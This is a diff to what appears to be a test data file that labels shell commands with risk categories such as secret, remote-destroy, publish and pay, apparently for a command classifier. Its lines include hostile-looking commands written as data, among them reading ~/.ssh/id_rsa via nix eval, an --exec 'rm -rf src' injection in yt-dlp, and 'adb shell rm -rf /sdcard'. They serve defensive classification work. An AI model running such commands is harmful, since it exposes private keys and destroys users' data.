@@ -325,7 +325,7 @@ nix eval --impure --expr 'builtins.readFile ~/.ssh/id_rsa' -> run run-other secr
 nix build github:evil/x -> run-other
 spark-submit x.py -> run-other
 yt-dlp --exec 'rm -rf src' https://a.com/x -> fetch edit run-other
-k6 run x.js -> run-other fetch
+k6 run x.js -> run-other
 ansible-playbook site.yml -> remote-change
 act -j deploy -> run publish
 adb shell rm -rf /sdcard -> remote-run
@@ -636,9 +636,6 @@ cds deploy --to hana -> remote-change
 cds env -> secret
 odoo-bin -d dev -u sale --stop-after-init -> serve
 odoo-bin --db_host=db.acme.dev -u sale -> remote-change serve
-web-ext sign -> publish
-starkli call 0x1 name -> remote-read run
-starkli invoke 0x1 transfer -> pay
 storescu pacs.acme.dev 104 a.dcm -> send
 restic snapshots -> remote-read run
 restic forget --keep-last 3 -> remote-destroy
